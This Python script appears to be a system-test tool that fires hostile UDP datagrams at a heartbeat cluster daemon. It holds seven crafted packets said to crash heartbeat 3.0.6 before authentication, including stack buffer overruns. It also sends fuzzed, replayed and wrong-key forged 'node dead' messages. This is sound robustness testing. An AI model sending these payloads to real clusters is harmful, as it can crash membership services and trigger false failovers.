#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Hostile traffic for the system tests, sent from a namespace of the test's own.

Classes: crafted datagrams that crash heartbeat 3.0.6's parser, random garbage, truncated
and bit-flipped copies of captured datagrams, oversized datagrams, replays of captured
datagrams, and forgeries signed with a wrong key. Every loop is bounded.

Usage: hostile.py CLASS TARGET_IP [PCAP] [COUNT]
"""
import hashlib
import hmac
import os
import random
import socket
import struct
import sys

PORT = 694

# Each of these kills heartbeat 3.0.6's master process before authentication
# (doc/notes/membership-3.0.6.md §10.2).
CRASHERS = [
    b"###\n3:abc,%%%\n",                      # field not starting with '('
    b"###\n6:(x)a=b,%%%\n",                   # type not a digit
    b"###\n6:(0xa=b,%%%\n",                   # no ')'
    b"###\n6:(7)a=b,%%%\n",                   # type 7: function table out of bounds
    b"###\n16:(3)a=99999999:b,,%%%\n",        # list with a huge inner length
    b"###\n%%%\n10250:1 " + b"A" * 10248 + b",",   # auth trailer past its stack buffer
    b">>>\nt=status\nauth=1 " + b"A" * 10300 + b"\n<<<\n",  # classic auth past its buffer
]


def read_pcap_payloads(path):
    """UDP payloads from an Ethernet pcap (libpcap format)."""
    out = []
    with open(path, "rb") as f:
        data = f.read()
    if len(data) < 24:
        return out
    magic = struct.unpack("<I", data[:4])[0]
    endian = "<" if magic in (0xA1B2C3D4, 0xA1B23C4D) else ">"
    pos = 24
    while pos + 16 <= len(data):
        _, _, incl, _ = struct.unpack(endian + "IIII", data[pos:pos + 16])
        pkt = data[pos + 16:pos + 16 + incl]
        pos += 16 + incl
        if len(pkt) < 42 or pkt[12:14] != b"\x08\x00":
            continue
        ihl = (pkt[14] & 0x0F) * 4
        if pkt[23] != 17:
            continue
        udp = 14 + ihl
        out.append(pkt[udp + 8:])
    return out


def netstring(fields):
    body = b"###\n"
    for name, value, ftype in fields:
        content = b"(" + str(ftype).encode() + b")" + name + b"=" + value
        body += str(len(content)).encode() + b":" + content + b","
    return body + b"%%%\n"


def forged(seq):
    fields = [(b"t", b"status", 0), (b"st", b"dead", 0), (b"dt", b"1", 0),
              (b"src", b"lvs-01", 0), (b"srcuuid", os.urandom(16), 1),
              (b"seq", b"%x" % seq, 0), (b"hg", b"ffffffffff", 0), (b"ts", b"1", 0)]
    body = netstring(fields)
    digest = hmac.new(b"not-the-secret", body, hashlib.sha1).hexdigest().encode()
    token = b"1 " + digest
    return body + str(len(token)).encode() + b":" + token + b","


def main():
    cls, target = sys.argv[1], sys.argv[2]
    pcap = sys.argv[3] if len(sys.argv) > 3 and sys.argv[3] != "-" else None
    count = int(sys.argv[4]) if len(sys.argv) > 4 else 500
    rng = random.Random(20261125)
    captured = read_pcap_payloads(pcap) if pcap else []
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)

    def send(b):
        try:
            s.sendto(b, (target, PORT))
        except OSError:
            pass

    sent = 0
    if cls == "crashers":
        for _ in range(max(1, count // len(CRASHERS))):
            for b in CRASHERS:
                send(b)
                sent += 1
    elif cls == "garbage":
        prefixes = [b"", b"###\n", b">>>\n", b"###\n12:(0)t=status,"]
        for _ in range(count):
            send(rng.choice(prefixes) + os.urandom(rng.randrange(0, 1400)))
            sent += 1
    elif cls == "truncated":
        for i in range(count):
            if not captured:
                break
            b = captured[i % len(captured)]
            cut = rng.randrange(0, len(b))
            flipped = bytearray(b)
            flipped[rng.randrange(0, len(b))] ^= 1 << rng.randrange(0, 8)
            send(b[:cut])
            send(bytes(flipped))
            sent += 2
    elif cls == "oversized":
        for i in range(max(1, count // 10)):
            send(b"###\n" + b"9" * 60000)
            send(b">>>\n" + (b"a=" + b"b" * 1000 + b"\n") * 60)
            sent += 2
    elif cls == "replay":
        for i in range(count):
            if not captured:
                break
            send(captured[i % len(captured)])
            sent += 1
    elif cls == "forged":
        for i in range(count):
            send(forged(0x100000 + i))
            sent += 1
    else:
        print("unknown class", cls)
        return 2
    print(f"{cls}: sent {sent} datagrams to {target}:{PORT}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
